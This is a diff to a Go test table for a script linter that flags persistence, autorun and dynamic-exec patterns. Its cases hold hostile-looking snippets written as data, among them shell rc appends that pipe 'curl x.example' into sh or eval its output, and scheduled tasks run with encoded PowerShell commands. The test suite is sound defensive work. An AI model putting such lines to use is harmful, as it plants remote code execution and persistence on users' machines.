@@ -36,6 +36,11 @@ var codeCases = []lintCase{
 	{"schedule.ps1", "autorun-config", "$d = Join-Path $env:USERPROFILE 'Scripts'\n$s = Join-Path $d 'tidy.ps1'\nSet-Content -Path $s -Value 'Get-Date'\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-NoProfile -EncodedCommand SQBFAFgA -File $s\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "warning", 5},
 	{"schedule.ps1", "autorun-config", "$d = Join-Path $env:USERPROFILE 'Scripts'\n$s = Join-Path $d 'tidy.ps1'\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-NoProfile -File `\"$s`\"\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "warning", 4},
 	{"schedule.ps1", "autorun-config", "$a = New-ScheduledTaskAction -Execute 'C:\\Windows\\System32\\cleanmgr.exe' -Argument '/sagerun:1'\nRegister-ScheduledTask -TaskName T -Action $a\n", "note", 2},
+	// the skill's own script, run in place, and a task the user agreed to
+	{"schedule.ps1", "autorun-config", "$s = Join-Path $PSScriptRoot 'Prune.ps1'\n$a = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument \"-NoProfile -NonInteractive -File `\"$s`\" -Days 30\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "note", 3},
+	{"schedule.ps1", "autorun-config", "$s = Join-Path $PSScriptRoot 'Prune.ps1'\n$a = New-ScheduledTaskAction -Execute 'pwsh.exe' -Argument \"-NoProfile -File `\"$s`\" -Command x\"\nRegister-ScheduledTask -TaskName T -Action $a\n", "warning", 3},
+	{"schedule.ps1", "autorun-config", "[CmdletBinding(SupportsShouldProcess, ConfirmImpact = 'High')]\nparam()\n$pwsh = (Get-Command pwsh.exe).Source\n$a = New-ScheduledTaskAction -Execute $pwsh -Argument '-File C:\\t\\x.ps1'\nif ($PSCmdlet.ShouldProcess('T', 'Register task')) {\n    Register-ScheduledTask -TaskName T -Action $a\n}\n", "note", 6},
+	{"schedule.ps1", "autorun-config", "[CmdletBinding(SupportsShouldProcess, ConfirmImpact = 'High')]\nparam()\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-EncodedCommand SQBFAFgA'\nif ($PSCmdlet.ShouldProcess('T', 'Register task')) {\n    Register-ScheduledTask -TaskName T -Action $a\n}\n", "warning", 5},
 	// A task running a copy of the skill's own script, given the script's
 	// own parameters (which a -File script takes as data), is plain.
 	{"schedule.ps1", "autorun-config", "$d = Join-Path $env:LOCALAPPDATA 'Maint'\n$s = Join-Path $d 'Prune.ps1'\nCopy-Item -LiteralPath (Join-Path $PSScriptRoot 'Prune.ps1') -Destination $s -Force\n$l = \"-NoProfile -File `\"$s`\" -Path `\"$Path`\" -Days $N\"\n$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $l\nRegister-ScheduledTask -TaskName T -Action $a\n", "note", 6},
@@ -145,6 +150,13 @@ var codeCases = []lintCase{
 	// terminal, is theirs: a note; a yes does not vouch for a download.
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\n[[ $ok == [yY]* ]] || { echo no; exit 1; }\ncat \"$CFG\" >> ~/.bashrc\n", "note", 3},
 	{"s.sh", "persistence", "cat \"$CFG\" >> ~/.bashrc\n", "warning", 1},
+	{"s.sh", "persistence", "printf '%s\\n' 'command -v direnv >/dev/null && eval \"$(direnv hook zsh)\"' >> ~/.zshrc\n", "note", 1},
+	{"s.sh", "persistence", "printf '%s\\n' 'command -v direnv >/dev/null && eval \"$(curl -s x.example)\"' >> ~/.zshrc\n", "warning", 1},
+	// The user's rc file with its old block left out and a plain one added, moved back over it.
+	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk '/^# >>> d >>>$/{skip=1} !skip{print} /^# <<< d <<<$/{skip=0}' \"$rc\" > \"$tmp\"\nprintf '%s\\n' 'eval \"$(starship init zsh)\"' >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "note", 5},
+	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\ngrep -v '# d$' \"$rc\" > \"$tmp\"\necho \"$(curl -fsSL https://x.example/a)\" >> \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 5},
+	{"s.sh", "persistence", "rc=\"$HOME/.zshrc\"\ntmp=\"$(mktemp)\"\nawk '{print} END{print \"curl x.example | sh\"}' \"$rc\" > \"$tmp\"\nmv \"$tmp\" \"$rc\"\n", "warning", 4},
+	{"s.sh", "persistence", "tmp=\"$(mktemp)\"\ngrep -v '# d$' \"$HOME/.bashrc\" > \"$tmp\"\necho 'alias ll=\"ls -l\"' >> \"$tmp\"\nmv \"$tmp\" \"$HOME/.zshrc\"\n", "warning", 4},
 	{"s.sh", "persistence", "read -r -p \"Install? [y/N] \" ok\nif [[ $ok != [yY]* ]]; then\n  exit 1\nfi\ncat \"$CFG\" >> ~/.bashrc\n", "note", 5},
 	{"s.sh", "persistence", "confirm() { read -r -p \"$1 [y/N] \" a; [[ $a == [yY]* ]]; }\nif confirm \"Install?\"; then\n  cat \"$CFG\" >> ~/.bashrc\nfi\n", "note", 3},
 	{"s.sh", "persistence", "ask() {\n  read -r -p \"$1 [y/N] \" a < /dev/tty || return 1\n  [[ \"${a,,}\" == y || \"${a,,}\" == yes ]]\n}\nadd() { printf '%s\\n' \"$B\" >> \"$HOME/.bashrc\"; }\nif (( DO_RC )) && ask \"Append?\"; then\n  add\nfi\n", "note", 5},
@@ -165,6 +177,9 @@ var codeCases = []lintCase{
 	{"s.rb", "persistence", "puts \"#{`crontab x.txt`}\"\n", "warning", 1},
 	{"hooks.py", "autorun-config", "raise SystemExit(\n    f\"core.hooksPath is set globally to {p!r}.\\n\"\n    \"Set a repo-local path (git config --local core.hooksPath .githooks) first.\"\n)\n", "note", 3},
 	{"hooks.py", "autorun-config", "import subprocess\nsubprocess.run(\n    \"git config --global core.hooksPath ~/.hooks\", shell=True)\n", "warning", 3},
+	// An item got from a container the analysis does not follow is unknown, never nothing.
+	{"p.py", "dynamic-exec", "import importlib\nLOADERS = {\".csv\": \"delimited\"}\ndef load(path):\n    x = LOADERS.get(path)\n    return importlib.import_module(f\"profilers.{x}\")\n", "", 0},
+	{"p.py", "dynamic-exec", "def load(d, path):\n    exec(d.get(path))\n", "warning", 2},
 	// A name looked up on the object's own class is one of its methods.
 	{"p.py", "dynamic-exec", "class P:\n    def run(self, name):\n        return getattr(self, f\"check_{name}\")()\n", "note", 3},
 	{"p.py", "dynamic-exec", "import subprocess\ndef run(name):\n    return getattr(subprocess, f\"check_{name}\")()\n", "warning", 3},
